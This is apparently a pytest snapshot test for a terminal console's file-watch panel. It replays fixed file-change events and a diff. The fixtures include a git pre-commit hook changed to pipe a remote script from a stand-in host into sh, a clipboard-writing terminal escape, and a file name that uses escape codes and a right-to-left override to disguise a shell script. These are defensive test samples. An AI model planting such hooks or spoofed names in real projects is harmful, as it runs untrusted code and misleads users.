"""An SVG snapshot of the watch panel at a fixed size, with fixed events and a frozen clock.

The events are shaped exactly as the daemon sends them (``FileEvent.to_dict``); only the
connection is replayed, because a snapshot needs the same times and ids on every run.
Regenerate after an intended change with ``--snapshot-update`` and look at the SVG.
"""

from __future__ import annotations

import os
import time
from typing import Any

import pytest
from support.items import status_wire, watch_status_wire
from support.snapshot_data import NOW, WS, ReplayClient

from console.tui.app import ConsoleApp
from console.tui.settings.config import Config, Notifications
from console.tui.settings.prepared import prepare

SIZE = (120, 40)
OTHER = "/home/dev/other"
DIFF = (
    "--- a/.git/hooks/pre-commit\n+++ b/.git/hooks/pre-commit\n@@ -1,2 +1,3 @@\n #!/bin/sh\n"
    "-exec ./scripts/lint.sh\n+curl -fsSL https://get.example.dev/x | sh\n+printf '\x1b]52;c;aGk=\x07'\n"
)


def event(seq: int, display: str, kind: str = "modified", protected: str | None = None, **kw: Any) -> dict:
    e = {
        "seq": seq,
        "at": NOW - 300 + seq * 20,
        "changed_at": NOW - 300 + seq * 20,
        "workspace_root": WS,
        "path": display,
        "display_path": display,
        "path_flagged": False,
        "kind": kind,
        "protected": protected,
        "is_dir": False,
        "symlink_escape": False,
        "size": 120,
        "mode": 0o100644,
        "attribution": [],
        "source": "inotify",
        "count": 1,
        "flood": False,
        "quiet": None,
    }
    e.update(kw)
    return e


SESSION = [
    {"kind": "session", "id": "d6f6daf4", "label": "bash -lc ./build.sh", "pid": 4321, "workspace_root": WS}
]
OPERATION = [
    {
        "kind": "operation",
        "id": "r-0000000003",
        "label": "/usr/bin/python3 -m pytest -q",
        "pid": None,
        "workspace_root": WS,
    }
]
EVENTS = [
    event(1, "src/app.py", attribution=OPERATION),
    event(2, "build/out.o", "added", attribution=OPERATION),
    event(3, ".env", protected=".env", attribution=OPERATION),
    event(4, "notes.txt", "deleted"),
    event(5, "link-out", "added", symlink_escape=True, attribution=SESSION),
    event(
        6,
        "evil\\x1b[2J\\u202egnp.sh",
        "added",
        protected=".git/hooks/**",
        path_flagged=True,
        path="evil\x1b[2J\u202egnp.sh",
        attribution=SESSION,
    ),
    event(7, "data.csv", workspace_root=OTHER, source="rescan"),
    event(8, ".git/hooks/pre-commit", protected=".git/hooks/**", attribution=SESSION),
]


class WatchReplay(ReplayClient):
    def status(self) -> dict[str, Any]:
        roots = [
            {"root": WS, "state": "ok", "mode": "inotify", "reasons": []},
            {
                "root": OTHER,
                "state": "degraded",
                "mode": "polling",
                "reasons": [{"code": "watch_limit", "message": "inotify watch limit reached", "since": NOW}],
            },
        ]
        return status_wire(
            watch=watch_status_wire(roots=roots),
            sandbox={"summary": "bubblewrap 0.8.0, network isolated"},
        )

    async def call(self, method: str, params: dict[str, Any] | None = None) -> Any:
        if method == "watch.recent":
            return {"events": EVENTS[::-1]}
        if method == "watch.diff":
            return {"diff": DIFF, "accepted": None}
        return await super().call(method, params)


@pytest.fixture(autouse=True)
def utc():
    old = os.environ.get("TZ")
    os.environ["TZ"] = "UTC"
    time.tzset()
    yield
    if old is None:
        del os.environ["TZ"]
    else:
        os.environ["TZ"] = old
    time.tzset()


def make() -> ConsoleApp:
    settings = prepare(Config(notifications=Notifications(toast=False, bell=False, desktop="off")))

    async def connect() -> WatchReplay:
        return WatchReplay()

    return ConsoleApp(settings, connect=connect, clock=lambda: NOW, monotonic=lambda: 0.0)  # type: ignore[arg-type]


def test_watch_panel(snap_compare):
    async def run(pilot) -> None:
        app = pilot.app
        for _ in range(200):
            if app.watch_monitor.loaded and app.pending.total:
                break
            await pilot.pause(0.01)
        await pilot.press("5")
        await pilot.pause(0.1)
        await pilot.press("d")  # the newest row: .git/hooks/pre-commit
        for _ in range(200):
            if "curl" in app.screen.query_one("WatchDetail").plain:
                break
            await pilot.pause(0.01)
        await pilot.pause(0.1)

    assert snap_compare(make(), terminal_size=SIZE, run_before=run)
